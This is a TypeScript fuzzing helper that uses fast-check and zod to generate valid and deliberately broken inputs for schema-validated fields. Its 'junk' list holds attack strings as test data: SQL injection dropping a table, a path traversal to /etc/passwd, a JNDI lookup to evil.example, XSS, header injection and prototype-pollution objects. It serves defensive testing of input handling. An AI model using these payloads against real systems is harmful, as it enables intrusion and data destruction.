import fc from 'fast-check'
import { z } from 'zod'

type Schema = {
  readonly [keyword: string]: unknown
  readonly $defs?: Readonly<Record<string, Schema>>
  readonly $ref?: string
  readonly type?: string
  readonly enum?: readonly unknown[]
  readonly anyOf?: readonly Schema[]
  readonly oneOf?: readonly Schema[]
  readonly properties?: Readonly<Record<string, Schema>>
  readonly required?: readonly string[]
  /** false: only the first items of the array have schemas. */
  readonly items?: Schema | false
  readonly prefixItems?: readonly Schema[]
  readonly pattern?: string
  readonly format?: string
}

const LONG = 40
const MANY = 4

/** Text of any characters. */
export const anyText = fc.string({ unit: 'binary', maxLength: LONG })
// The tables of characters are created when they are first used. That can take a second, and a running server would refuse requests meanwhile.
fc.sample(fc.tuple(anyText, fc.string({ unit: 'grapheme' })), 1)

/** Returns values that a schema of the contract accepts. */
export function anyOf(schema: z.ZodType): fc.Arbitrary<unknown> {
  const root = z.toJSONSchema(schema, { io: 'input' }) as Schema
  return valuesOf(root, root)
}

function valuesOf(schema: Schema, root: Schema): fc.Arbitrary<unknown> {
  const name = schema.$ref?.replace('#/$defs/', '')
  if (name !== undefined) {
    const named = root.$defs?.[name]
    if (named === undefined) throw new TypeError(`${name} is not defined`)
    return valuesOf(named, root)
  }
  if ('const' in schema) return fc.constant(schema.const)
  if (schema.enum) return fc.constantFrom(...schema.enum)
  const either = schema.anyOf ?? schema.oneOf
  if (either) return fc.oneof(...either.map((one) => valuesOf(one, root)))
  const make = TYPES[schema.type ?? '']
  if (make === undefined) throw new TypeError(`Teach this generator ${JSON.stringify(schema)}`)
  return make(schema, root)
}

const TYPES: Readonly<Record<string, (schema: Schema, root: Schema) => fc.Arbitrary<unknown>>> = {
  string: textsOf,
  boolean: () => fc.boolean(),
  null: () => fc.constant(null),
  integer: (s) => fc.integer({ min: Number(s.minimum ?? -1e9), max: Number(s.maximum ?? 1e9) }),
  number: (s) =>
    fc.double({
      min: Number(s.minimum ?? s.exclusiveMinimum ?? -1e9),
      minExcluded: s.exclusiveMinimum !== undefined,
      max: Number(s.maximum ?? 1e9),
      noNaN: true,
    }),
  array: (s, root) =>
    s.prefixItems === undefined
      ? fc.array(valuesOf(s.items || { type: 'null' }, root), {
          minLength: Number(s.minItems ?? 0),
          maxLength: Math.min(Number(s.maxItems ?? MANY), Math.max(MANY, Number(s.minItems ?? 0))),
        })
      : fc.tuple(...s.prefixItems.map((one) => valuesOf(one, root))),
  object: (s, root) =>
    fc.record(Object.fromEntries(Object.entries(s.properties ?? {}).map(([key, one]) => [key, valuesOf(one, root)])), {
      requiredKeys: [...(s.required ?? [])],
    }),
}

const FORMATS: Readonly<Record<string, fc.Arbitrary<string>>> = {
  uuid: fc.uuid({ version: 4 }),
  email: fc.emailAddress({ size: 'small' }),
  uri: fc.webUrl({ size: 'small' }),
  'date-time': fc
    .date({ min: new Date('1990-01-01'), max: new Date('2040-01-01'), noInvalidDate: true })
    .map((date) => date.toISOString()),
}

/**
 * A pattern of all characters except a class, such as control characters of a terminal: nearly every text matches it. If a text
 * were generated from the pattern, the generator would first list a million characters, which takes seconds for each field.
 */
const ALMOST_ALL = /^\^\\P\{\w+\}[*+]?\$$/

function textsOf({ format = '', pattern, minLength, maxLength }: Schema): fc.Arbitrary<string> {
  const matches = new RegExp(pattern ?? '', 'u')
  const [least, most] = [Number(minLength ?? 0), Math.min(Number(maxLength ?? LONG), LONG)]
  const free = fc.string({ minLength: least, maxLength: most, unit: 'grapheme' })
  const plain =
    FORMATS[format] ?? (pattern === undefined || ALMOST_ALL.test(pattern) ? free : fc.stringMatching(matches))
  // Some fields first trim the blanks around the text.
  return plain.filter((text) => matches.test(text) && !text.includes('\0') && text.trim().length >= least)
}

/** Values that no field accepts: wrong kinds, limits, and inputs that break databases, shells, logs and prototypes. */
export const junk: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(
    null,
    true,
    0,
    -1,
    1.5,
    1e308,
    Number.MAX_SAFE_INTEGER + 2,
    '',
    ' ',
    '\0',
    'a\0b',
    '\ud800',
    '\r\nset-cookie: a=b',
    "'; drop table platform.audit; --",
    '../../../etc/passwd',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a lookup that must stay text
    '${jndi:ldap://evil.example/a}',
    '<script>alert(1)</script>',
    '\u202e\u2066',
    'x'.repeat(5_000),
    [],
    {},
    [[[[]]]],
    { $ne: null },
    { toString: 1 },
    JSON.parse('{"__proto__":{"isAdmin":true}}'),
    { constructor: { prototype: { isAdmin: true } } },
  ),
  anyText,
  fc.double(),
  fc.jsonValue({ maxDepth: 3 }),
)

type Place = readonly (string | number)[]

/** Returns values with one change: something is replaced, removed or added. They may still be valid. */
export function spoilt(values: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  return fc
    .tuple(values, fc.nat(), junk, fc.constantFrom('replace', 'remove', 'add'), fc.string({ maxLength: 12 }))
    .map(([value, pick, instead, how, name]) => {
      const places = [...placesIn(value)]
      const place = places[pick % places.length] ?? []
      return change(value, place, (old) => {
        if (how === 'replace' || typeof old !== 'object' || old === null) return instead
        if (Array.isArray(old)) return how === 'add' ? [...old, instead] : old.slice(1)
        const entries = Object.entries(old)
        return Object.fromEntries(how === 'add' ? [...entries, [name, instead]] : entries.slice(1))
      })
    })
}

/** Returns the places in a value at which there are objects. */
export function objectsIn(value: unknown): Place[] {
  return [...placesIn(value)].filter((place) =>
    isRecord(place.reduce<unknown>((at, key) => Reflect.get(Object(at), key), value)),
  )
}

const isRecord = (value: unknown) => typeof value === 'object' && value !== null && !Array.isArray(value)

/** Returns the value with one more field in the object at a place; the field may also be `__proto__`, which JSON can contain. */
export function putIn(value: unknown, place: Place, name: string, content: unknown = 'x'): unknown {
  return change(value, place, (old) =>
    Object.defineProperty({ ...(old as object) }, name, { value: content, enumerable: true }),
  )
}

function* placesIn(value: unknown, at: Place = []): Generator<Place> {
  yield at
  if (typeof value !== 'object' || value === null) return
  for (const [key, inner] of Object.entries(value))
    yield* placesIn(inner, [...at, Array.isArray(value) ? Number(key) : key])
}

function change(value: unknown, [first, ...rest]: Place, to: (old: unknown) => unknown): unknown {
  if (first === undefined) return to(value)
  if (Array.isArray(value)) return value.map((item, place) => (place === first ? change(item, rest, to) : item))
  return Object.fromEntries(
    Object.entries(value as object).map(([key, inner]) => [key, key === first ? change(inner, rest, to) : inner]),
  )
}
